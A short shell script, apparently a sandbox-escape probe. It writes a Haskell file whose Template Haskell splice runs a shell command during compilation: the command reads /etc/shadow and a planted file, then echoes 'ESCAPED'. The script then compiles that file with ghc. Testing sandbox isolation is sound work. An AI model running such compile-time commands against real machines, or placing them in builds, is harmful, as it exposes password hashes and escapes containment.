cat > A.hs <<'END'
{-# LANGUAGE TemplateHaskell #-}
import Language.Haskell.TH
import System.Process
main :: IO ()
main = $(runIO (system "cat /etc/shadow \"$PLANTED/txt\" && echo ESCAPED; echo template ran inside") >> [| return () |])
END
HOME=/tmp ghc -v0 A.hs || HOME=/tmp ghc -v0 -package process A.hs
echo done
